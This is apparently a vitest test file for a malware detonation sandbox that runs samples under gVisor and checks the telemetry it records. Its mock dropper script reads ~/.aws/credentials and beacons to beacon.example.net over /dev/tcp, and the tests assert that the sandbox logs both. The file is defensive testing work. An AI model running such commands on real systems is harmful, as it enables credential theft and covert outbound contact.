import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { sha256 } from '../../../src/base/fingerprint.ts';
import { detonate } from '../../../src/instruments/lab/detonation/detonate.ts';
import { recogniseKind } from '../../../src/instruments/lab/recognise/index.ts';

/** Samples that run, in a cell of gVisor alone. What they do is harmless and stays there. */

const root = mkdtempSync(join(tmpdir(), 'hotcell-detonation-'));
// Users of boxes have to pass through it.
chmodSync(root, 0o711);
afterAll(() => rmSync(root, { recursive: true, force: true }));

function run(name: string, text: string | Buffer, seconds = 30) {
  const bytes = Buffer.from(text);
  return detonate({
    bytes,
    name,
    kind: recogniseKind(bytes, name),
    sha256: sha256(bytes),
    seconds,
    options: { runtimeFolder: join(root, 'run'), dockerSocket: '/nonexistent', homeFolder: join(root, 'home') },
    signal: new AbortController().signal,
  });
}

const dropper = [
  '#!/bin/bash',
  'cat ~/.aws/credentials > /dev/null',
  'echo marker > "$HOME/dropped.txt"',
  'exec 3<>/dev/tcp/beacon.example.net/80 && printf "GET /gate HTTP/1.0\\r\\nHost: beacon.example.net\\r\\n\\r\\n" >&3 && cat <&3 > /dev/null',
  'echo done',
  '',
].join('\n');

describe('a sample that runs', () => {
  it('tells what it read, wrote and asked for, with complete telemetry', async () => {
    const { detonation, findings, contacted } = await run('dropper.sh', dropper);
    expect(detonation, detonation.because).toMatchObject({
      status: 'done',
      backend: 'gvisor',
      exit_code: 0,
      is_complete: true,
    });
    expect(detonation.stdout).toContain('done');
    expect(contacted).toContain('beacon.example.net');
    const kinds = new Set(detonation.timeline.map(({ kind }) => kind));
    expect(kinds).toContain('bait-read');
    expect(kinds).toContain('http-request');
    expect(detonation.timeline.some(({ text }) => text.includes('dropped.txt'))).toBe(true);
    expect(findings.every(({ evidenceType }) => evidenceType === 'behaviour')).toBe(true);
    expect(findings.length).toBeGreaterThan(0);
    const log = join(root, 'home', 'runs', detonation.run ?? '', 'events.ndjson');
    expect(existsSync(log)).toBe(true);
    expect(readFileSync(log, 'utf8')).toContain('beacon.example.net');
  });

  it('is ended when its time is over', async () => {
    const { detonation } = await run('sleeper.sh', '#!/bin/sh\necho before\nsleep 300\n', 3);
    expect(detonation.status).toBe('done');
    expect(detonation.exit_code).toBe(null);
    expect(detonation.stdout).toContain('before');
  });

  it.each([
    ['document.pdf', '%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n', /cannot be started on Linux/],
    [
      'other.elf',
      Buffer.concat([
        Buffer.from('\x7fELF\x02\x01\x01'),
        Buffer.alloc(9),
        Buffer.from([2, 0, 0x16, 0]),
        Buffer.alloc(44),
      ]),
      /another processor/,
    ],
  ])('%s is not started', async (name, bytes, because) => {
    const { detonation } = await run(name, bytes);
    expect(detonation).toMatchObject({ status: 'not-applicable', run: null });
    expect(detonation.because).toMatch(because);
  });
});
